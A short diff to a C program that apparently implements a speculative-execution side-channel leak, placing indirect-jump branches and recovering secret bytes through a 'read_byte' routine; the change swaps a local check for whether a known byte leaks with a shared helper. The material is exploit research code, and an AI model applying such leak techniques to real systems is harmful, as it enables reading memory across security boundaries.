@@ -11,8 +11,6 @@
 #include "secret.h"
 #include "train.h"
 
-enum { ATTEMPTS = 4 };
-
 static const uint8_t *array, *branches[MOST_ADDRESSES];
 static uint64_t disclosure;
 
@@ -35,16 +33,6 @@ static int sample(int index)
 	return read_byte(options.address + index);
 }
 
-/* Whether a byte that is known can be read. */
-static int works(void)
-{
-	int right = 0;
-
-	for (int i = 0; i < ATTEMPTS; i++)
-		right += read_byte(options.known) == KNOWN_BYTE;
-	return right > 1;
-}
-
 int main(int argc, char **argv)
 {
 	parse_options(argc, argv);
@@ -59,7 +47,7 @@ int main(int argc, char **argv)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
 	for (int i = 0; i < options.disclosures.count; i++) {
 		disclosure = options.disclosures.at[i];
-		if (works())
+		if (reads_known_byte(read_byte))
 			break;
 	}
 	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
